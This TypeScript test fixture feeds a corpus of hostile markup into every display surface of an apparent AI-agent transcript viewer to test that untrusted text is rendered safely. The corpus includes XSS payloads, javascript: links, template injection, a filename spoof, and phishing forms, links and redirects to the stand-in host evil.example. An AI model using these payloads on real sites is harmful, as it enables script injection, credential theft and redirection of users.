import { begin, type Scene } from './begin.ts';
import { tell } from './teller.ts';
import { zipOf } from './things.ts';

/** Markup that runs, asks or leads away where a screen takes it for its own. Each sets `window.broken` where it succeeds. */
export const hostileTexts = [
  '<script>window.broken=1</script>',
  '<img src=x onerror="window.broken=1">',
  '<svg onload="window.broken=1"><animate onbegin="window.broken=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
  '<a href="javascript:window.broken=1">click</a>',
  '[click](javascript:window.broken=1)',
  '[click](JaVaScRiPt:window.broken=1)',
  '[click](data:text/html,<script>window.broken=1</script>)',
  '[https://bank.example](https://evil.example/steal?a=1)',
  '![x](https://evil.example/pixel.png)',
  '![x](x" onerror="window.broken=1)',
  '<https://evil.example/"onmouseover="window.broken=1>',
  '"><script>window.broken=1</script>',
  "'-window.broken=1-'",
  '{{constructor.constructor("window.broken=1")()}}',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>',
  '\u202egnp.exe\u202c looks like exe.png',
  '<object data="javascript:window.broken=1"></object><embed src="javascript:window.broken=1">',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.broken=1> | [x](vbscript:window.broken=1) |',
  '```html\n<script>window.broken=1</script>\n```',
];

/** The corpus in every place that shows what a model, a file or a page wrote. */
export function hostileScene(now: number): Scene {
  const story = begin(now);
  const all = hostileTexts.join('\n\n');
  const name = (index: number) => hostileTexts[index]?.replaceAll('/', '∕').slice(0, 80) ?? 'x';
  const done = tell(story, now, `${hostileTexts[1]} ${hostileTexts[0]}\n\n${all}`, { minutes: 30, files: [name(1)] });
  done.turn(all, hostileTexts.length);
  for (const text of hostileTexts) done.step(text, { tool: text.slice(0, 60), args: { text }, output: text });
  done.note(all);
  const html = `<html><body onload="parent.broken=1">${all}</body></html>`;
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>window.top.broken=1</script><rect width="40" height="40" fill="red" onclick="window.broken=1"/></svg>';
  done
    .artifact('/d/page.html', html, 'text/html')
    .artifact('/d/picture.svg', svg, 'image/svg+xml')
    .artifact('/d/text.md', all, 'text/markdown')
    .artifact('/d/table.csv', hostileTexts.map((text) => `"${text.replaceAll('"', '""')}",2`).join('\n'), 'text/csv')
    .artifact('/d/lies.png', html, 'image/png')
    .artifact('/d/letter.docx', zipOf({ 'word/document.xml': docxOf(hostileTexts) }))
    .artifact(`/d/${name(1)}.txt`, all, 'text/plain')
    .turn(all)
    .commit(
      hostileTexts.map((text, index) => ({
        kind: 'added' as const,
        path: `/home/ana/Documents/${name(index)}`,
        what: 'file' as const,
        after: 3,
        marks: [text],
      })),
    )
    .finish('partly', all, { code: 'x', sentence: all, next: all });
  const approval = tell(story, now, 'Approve this', { minutes: 20 });
  approval.turn('', 1).approval({
    title: hostileTexts[0] ?? '',
    why: all,
    irreversible: false,
    decisive: hostileTexts.map((text, index) => ({
      name: text,
      value: text,
      from: text,
      trusted: false,
      stands: [
        { look: text, of: 'p', says: [text, text], ...(index % 2 && { within: true as const, not: text }) },
        { says: [text], instead: text },
      ],
    })),
    pattern: { words: all, grant: {} },
    full: all,
  });
  const question = tell(story, now, 'Ask me', { minutes: 10 });
  question.turn('', 1).ask(all, hostileTexts);
  return { story, tasks: { done: done.task, approval: approval.task, question: question.task } };
}

const docxOf = (texts: string[]) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${texts
    .map((text) => `<w:p><w:r><w:t>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</w:t></w:r></w:p>`)
    .join('')}</w:body></w:document>`;
